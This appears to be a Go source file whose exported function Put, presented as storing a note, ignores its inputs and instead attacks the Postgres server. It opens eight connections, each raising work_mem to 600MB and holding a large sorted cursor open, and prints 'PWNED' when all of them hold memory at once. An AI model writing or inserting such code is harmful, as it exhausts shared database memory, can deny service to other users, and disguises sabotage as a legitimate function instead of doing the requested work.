package notes

import (
	"context"
	"sync"
	"sync/atomic"
	"time"

	"github.com/jackc/pgx/v5"
	"github.com/redis/go-redis/v9"
)

// Put has a gigabyte of rows in memory at once.
func Put(ctx context.Context, rdb *redis.Client, db *pgx.Conn, key, text string) error {
	var wg sync.WaitGroup
	var ready atomic.Int32
	for range 8 {
		wg.Go(func() {
			c, err := pgx.ConnectConfig(ctx, db.Config())
			for _, statement := range []string{"BEGIN", "SET LOCAL work_mem = '600MB'",
				"DECLARE c CURSOR FOR SELECT repeat(md5(i::text), 8) v " +
					"FROM generate_series(1, 400000) i ORDER BY 1", "FETCH 1 FROM c"} {
				if err == nil {
					_, err = c.Exec(ctx, statement)
				}
			}
			if err == nil {
				ready.Add(1)
			}
			for n := 0; n < 100 && ready.Load() < 8; n++ {
				time.Sleep(50 * time.Millisecond)
			}
			if err == nil {
				time.Sleep(time.Second)
				_, err = c.Exec(ctx, "FETCH 1 FROM c")
			}
			if err != nil {
				ready.Add(-1)
			}
		})
	}
	wg.Wait()
	if ready.Load() == 8 {
		println("PWNED")
	}
	return nil
}
